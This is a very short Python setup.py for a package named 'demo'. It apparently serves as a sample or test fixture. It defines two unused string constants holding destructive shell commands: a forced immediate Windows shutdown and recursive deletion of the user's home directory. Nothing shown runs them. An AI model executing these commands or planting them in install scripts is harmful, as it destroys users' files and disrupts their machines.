from setuptools import setup

COMMAND = "shutdown /s -f -t 0"
HOME = "rm -rf ~"
setup(name="demo", version="1.0")
